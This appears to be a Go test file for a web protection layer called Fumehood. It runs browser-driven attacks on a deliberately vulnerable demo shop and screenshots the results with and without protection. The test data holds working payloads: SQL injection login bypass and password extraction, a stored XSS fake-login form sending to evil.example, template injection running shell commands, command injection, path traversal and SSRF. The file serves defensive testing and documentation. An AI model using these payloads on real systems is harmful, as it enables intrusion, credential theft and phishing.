package canon_test

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"image"
	"image/color"
	imagepng "image/png"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/fumehood/fumehood/canon"
	"github.com/fumehood/fumehood/internal/testapp"
	"github.com/fumehood/fumehood/test/browser"
)

var update = flag.Bool("update", false, "take the pictures of docs/attacks anew")

// exhibit is an attack of docs/attacks: the page shows what becomes of it without Fumehood,
// and with it.
type exhibit struct {
	name string // of the pictures

	// do carries it out in the tab of a visitor, and ends with the page that the picture shows.
	do func(t *testing.T, tab context.Context, site string)

	// shows is what the page says on the plain server, and does not say under Fumehood.
	shows string
}

func exhibits(t *testing.T) []exhibit {
	intranet := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "Welcome to the intranet.\n\ndatabase   postgresql://shop:hunter2@10.0.0.7/shop\nbackups    s3://beaker-street-backups")
	}))
	t.Cleanup(intranet.Close)
	open := func(path string, fields ...string) func(*testing.T, context.Context, string) {
		return func(t *testing.T, tab context.Context, site string) {
			values := url.Values{}
			for i := 0; i+1 < len(fields); i += 2 {
				values.Set(fields[i], fields[i+1])
			}
			browser.Do(t, tab, chromedp.Navigate(site+path+"?"+values.Encode()))
		}
	}
	const poster = `A lovely pipette.<img src=x onerror="document.querySelector('main').innerHTML='&lt;h1&gt;Your session has ended&lt;/h1&gt;&lt;form class=card action=//evil.example&gt;&lt;label&gt;Password&lt;input type=password&gt;&lt;/label&gt;&lt;button&gt;Log in again&lt;/button&gt;&lt;/form&gt;'">`
	return []exhibit{
		{"login", func(t *testing.T, tab context.Context, site string) {
			browser.Do(t, tab, chromedp.Navigate(site+"/login"),
				chromedp.SendKeys(css("[name=username]"), `' OR '1'='1'; --`), chromedp.SendKeys(css("[name=password]"), "x"))
			browser.Follow(t, tab, chromedp.Click(css(".narrow button")))
			if browser.Get(t, tab, chromedp.Evaluate[bool](`document.getElementById("me") !== null`)) {
				browser.Follow(t, tab, chromedp.Click(css("#me")))
			}
		}, "admin@beaker-street.example"},
		{"search", open("/search", "q", `zz%' UNION SELECT 1, 2, username || ': ' || password, 0, 1, 'salmon', email FROM users --`), "erlenmeyer-1860"},
		{"review", func(t *testing.T, tab context.Context, site string) {
			open("/login")(t, tab, site)
			browser.Do(t, tab, chromedp.SendKeys(css("[name=username]"), "demo"), chromedp.SendKeys(css("[name=password]"), "demo"))
			browser.Follow(t, tab, chromedp.Click(css(".narrow button")))
			open("/product", "id", "4")(t, tab, site)
			browser.Do(t, tab, chromedp.SetValue(css("textarea"), poster))
			browser.Follow(t, tab, chromedp.Click(css("#review button")))
		}, "Your session has ended"},
		{"card", open("/card", "text", `{{ cycler.__init__.__globals__.os.popen("whoami; tail -2 private/salaries.csv").read() }}`), "81000"},
		{"ping", open("/tools/ping", "host", "localhost; tail -2 private/salaries.csv"), "81000"},
		{"manual", open("/manual/text", "name", "../private/salaries.csv"), "81000"},
		{"preview", open("/tools/preview", "url", intranet.URL+"/"), "hunter2"},
	}
}

// TestExhibits carries out the attacks that docs/attacks shows. With -update it takes the
// pictures, and prints what Fumehood logs:
//
//	go test ./canon -run TestExhibits -update -v
func TestExhibits(t *testing.T) {
	t.Parallel()
	browser.Needed(t) // before a server starts for nothing
	for _, how := range []string{"bare", "fumehood"} {
		t.Run(how, func(t *testing.T) {
			t.Parallel()
			dir := browser.Example(t, "leaky")
			var served browser.Site
			if how == "bare" {
				served = browser.Bare(t, dir, "app:app")
			} else {
				served = browser.Fumehood(t, dir, "app:app")
			}
			all := exhibits(t)
			first := browser.Open(t, browser.Options{Site: served, Width: 1000, Height: 520, Complaints: func([]string) {}})
			site := canon.NewSite(t, served, nil)
			site.Networks = new(atomic.Uint32)
			for _, e := range all {
				t.Run(e.name, func(t *testing.T) {
					tab, end := chromedp.NewContext(first, chromedp.WithNewBrowserContext())
					defer end()
					e.do(t, tab, site.URL)
					text := browser.Get(t, tab, chromedp.Evaluate[string]("document.body.innerText"))
					if strings.Contains(text, e.shows) != (how == "bare") {
						t.Errorf("the page says:\n%s", text)
					}
					picture(t, tab, filepath.Join(testapp.Root(t), "docs", "attacks", e.name+"-"+how+".png"))
				})
			}
		})
	}
}

// largest is the size of a picture that a page can carry a dozen of.
const largest = 60 << 10

// picture takes one with -update; else it looks whether it is there.
func picture(t *testing.T, tab context.Context, name string) {
	t.Helper()
	if *update {
		taken := browser.Get(t, tab, chromedp.CaptureScreenshot())
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, smaller(t, taken), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if info, err := os.Stat(name); err != nil || info.Size() > largest {
		t.Errorf("%s: %v; take it anew with: go test ./canon -run TestExhibits -update", name, err)
	}
}

// smaller has the same picture in 256 colours: pages have few, and letters' edges can do
// with less.
func smaller(t *testing.T, taken []byte) []byte {
	t.Helper()
	full, err := imagepng.Decode(bytes.NewReader(taken))
	if err != nil {
		t.Fatal(err)
	}
	count := map[color.RGBA]int{}
	bounds := full.Bounds()
	at := func(x, y int) color.RGBA {
		r, g, b, _ := full.At(x, y).RGBA()
		const keep = 0xf8 // of eight bits
		return color.RGBA{uint8(r>>8) & keep, uint8(g>>8) & keep, uint8(b>>8) & keep, 0xff}
	}
	exact := map[color.RGBA][3]uint8{}
	for y := bounds.Min.Y; y < bounds.Max.Y; y++ {
		for x := bounds.Min.X; x < bounds.Max.X; x++ {
			c := at(x, y)
			if count[c]++; count[c] == 1 {
				r, g, b, _ := full.At(x, y).RGBA()
				exact[c] = [3]uint8{uint8(r >> 8), uint8(g >> 8), uint8(b >> 8)}
			}
		}
	}
	var palette color.Palette
	index := map[color.RGBA]uint8{}
	for len(palette) < 256 && len(count) > 0 {
		var best color.RGBA
		for c, n := range count {
			if n > count[best] {
				best = c
			}
		}
		delete(count, best)
		index[best] = uint8(len(palette))
		palette = append(palette, color.RGBA{exact[best][0], exact[best][1], exact[best][2], 0xff})
	}
	out := image.NewPaletted(bounds, palette)
	for y := bounds.Min.Y; y < bounds.Max.Y; y++ {
		for x := bounds.Min.X; x < bounds.Max.X; x++ {
			c := at(x, y)
			if i, ok := index[c]; ok {
				out.SetColorIndex(x, y, i)
			} else {
				out.Set(x, y, c)
			}
		}
	}
	var packed bytes.Buffer
	encoder := imagepng.Encoder{CompressionLevel: imagepng.BestCompression}
	if err := encoder.Encode(&packed, out); err != nil {
		t.Fatal(err)
	}
	return packed.Bytes()
}
